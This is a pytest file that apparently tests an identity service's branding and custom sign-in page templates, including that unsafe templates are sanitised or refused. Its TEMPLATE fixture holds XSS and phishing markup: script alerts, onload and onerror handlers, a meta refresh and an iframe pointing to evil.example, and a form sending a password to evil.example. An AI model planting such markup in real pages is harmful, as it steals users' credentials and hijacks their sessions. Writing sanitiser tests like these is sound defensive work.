"""What an administrator's look and templates do to the pages of the next run."""

import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from html import unescape
from http.server import BaseHTTPRequestHandler, HTTPServer
from itertools import count

import pytest

from tests.journeys.people import PASSWORD, a_new_address, a_person, proved_sign_up
from tests.world.asking import Ask, asking
from tests.world.browser import Browser, Shown, arrival, page
from tests.world.relying_party import RelyingParty
from tests.world.server import Server

PNG = b"\x89PNG\r\n\x1a\n" + bytes(40)
TEMPLATE = """<!DOCTYPE html><html><head><title>Ours</title>
<link rel="stylesheet" href="/shop.css"><style>body { margin: 0 }</style>
<script>alert(1)</script><meta http-equiv="refresh" content="0;url=https://evil.example">
</head><body onload="alert(2)"><header class="shop"><img src="/logo.png" onerror="alert(3)">
<form action="https://evil.example"><input name="password"></form>Shop</header>
<div id="api"><p>preview</p></div><iframe src="https://evil.example"></iframe>
<footer>Åll the best</footer></body></html>"""
_numbers = count(1)


@pytest.fixture
def ask(site: Server) -> Ask:
    """Ask Graph as the administrator, below `/beta/`."""
    return asking(site)


@pytest.fixture
def flow(ask: Ask) -> str:
    """Return the id of a new user flow."""
    body = {
        "id": f"Looks{next(_numbers)}",
        "userFlowType": "signUpOrSignIn",
        "userFlowTypeVersion": 3,
    }
    made = ask("POST", "identity/b2cUserFlows", json=body)
    found: str = made.raise_for_status().json()["id"]
    return found


@contextmanager
def shop(html: bytes, media_type: str = "text/html", status: int = 200) -> Iterator[str]:
    """Serve one page on loopback; yield its address."""

    class Answering(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(status)
            self.send_header("Content-Type", media_type)
            self.end_headers()
            self.wfile.write(html)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = HTTPServer(("127.0.0.1", 0), Answering)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/page.html"
    server.shutdown()
    thread.join()
    server.server_close()


def layout(flow: str, name: str = "api.signuporsignin") -> str:
    return f"identity/b2cUserFlows/{flow}/pageLayouts/{name}"


def test_a_look_is_on_every_page_at_once_and_gone_again(
    site: Server, ask: Ask, flow: str, open_browser: Callable[[], Browser]
) -> None:
    branding = f"organization/{site.facts['tenant_id']}/branding"
    party = RelyingParty(site, flow)

    def shown() -> Shown:
        return page(open_browser().open(party.link()))

    changes = {
        "accentColor": "#ffee00",
        "backgroundColor": "#0a5f8f",
        "signInPageText": "Ask at <the> desk.",
        "usernameHintText": "The address on your card.",
        "customPrivacyAndCookiesUrl": "https://acme.example/privacy",
    }
    ask("PATCH", branding, json=changes).raise_for_status()
    sent = {"content": PNG, "headers": {"Content-Type": "image/png"}}
    ask("PUT", f"{branding}/bannerLogo", **sent).raise_for_status()
    ask("POST", f"{branding}/localizations", json={"id": "de", "signInPageText": "Fragen Sie."})
    dressed = shown()
    assert "Ask at &lt;the&gt; desk." in dressed.response.text
    assert dressed.text_of("email_hint") == "The address on your card."
    html = unescape(dressed.response.text)
    assert 'href="https://acme.example/privacy"' in html
    files = [each for each in html.split('"') if each.startswith("/branding/")]
    by_type = {answer.headers["content-type"]: answer for answer in map(site.client.get, files)}
    style = by_type["text/css; charset=utf-8"]
    assert "--front-from:#0a5f8f" in style.text
    assert "#ffee00" not in style.text.partition("@media")[0], "yellow on white cannot be read"
    assert by_type["image/png"].content == PNG
    assert "immutable" in style.headers["cache-control"]
    german = unescape(page(open_browser().open(party.link(ui_locales="de-AT"))).response.text)
    assert "Fragen Sie." in german
    assert "https://acme.example/privacy" in german
    ask("DELETE", branding).raise_for_status()
    bare = unescape(shown().response.text)
    assert "Ask at" not in bare
    assert "/branding/" not in bare
    assert site.client.get(files[0]).status_code == 404
    assert site.client.get(f"/branding/{site.facts['tenant_id']}/../x").status_code == 404


def test_a_template_stands_around_the_form_without_anything_that_acts(
    site: Server, ask: Ask, flow: str, open_browser: Callable[[], Browser]
) -> None:
    browser, person, party = open_browser(), a_person(site), RelyingParty(site, flow)
    with shop(TEMPLATE.encode()) as address:
        changed = ask("PATCH", layout(flow), json={"pageUri": address})
        assert changed.json()["isCustomPageUri"] is True
    shown = page(browser.open(party.link()))
    html, policy = shown.response.text, shown.response.headers["content-security-policy"]
    origin = address.removesuffix("/page.html")
    assert f'<img src="{origin}/logo.png">' in html
    assert "Åll the best" in html
    for absent in ("alert(", "evil.example", "preview", "<iframe", "refresh", "gatelodge."):
        assert absent not in html, absent
    assert f"style-src 'self' 'unsafe-inline' {origin}" in policy
    assert f"img-src 'self' data: {origin};" in policy
    assert "script-src" not in policy
    assert "evil.example" not in policy
    assert html.index("Shop") < html.index('id="next"') < html.index("Åll")
    signed_in = browser.press(shown, "next", email=person.email, password=PASSWORD)
    assert arrival(signed_in).code
    other = proved_sign_up(open_browser(), site, party, a_new_address())
    assert "gatelodge." in other.response.text, "only the page it was given for has it"
    ask("POST", f"{layout(flow)}/restoreDefaultPageUri").raise_for_status()
    assert "gatelodge." in page(open_browser().open(party.link())).response.text


@pytest.mark.parametrize(
    ("html", "media_type", "status", "told"),
    [
        (b"<p>no place</p>", "text/html", 200, "exactly one"),
        (b'<div id="api"></div><div id="api"></div>', "text/html", 200, "exactly one"),
        (b'<div id="api"></div>', "text/plain", 200, "text/plain"),
        (b'<div id="api"></div>', "text/html", 500, "500"),
        (b'\xff<div id="api"></div>', "text/html", 200, "UTF-8"),
        (b'<div id="api"></div>' + b" " * 262_144, "text/html", 200, "too large"),
    ],
    ids=["no place", "two places", "another type", "an error", "another encoding", "too large"],
)
def test_what_is_no_template_is_refused_and_changes_nothing(
    ask: Ask, flow: str, html: bytes, media_type: str, status: int, told: str
) -> None:
    with shop(html, media_type, status) as address:
        answer = ask("PATCH", layout(flow), json={"pageUri": address})
    assert answer.status_code == 400
    assert answer.json()["error"]["target"] == "pageUri"
    assert told in answer.json()["error"]["message"]
    assert ask("GET", layout(flow)).json()["pageUri"] is None


@pytest.mark.parametrize("name", ["api.selfasserted.totp", "api.selfasserted.recoverycodes"])
def test_a_page_that_shows_a_secret_takes_no_template(ask: Ask, flow: str, name: str) -> None:
    with shop(TEMPLATE.encode()) as address:
        answer = ask("PATCH", layout(flow, name), json={"pageUri": address})
    assert answer.status_code == 400
    assert "secret" in answer.json()["error"]["message"]
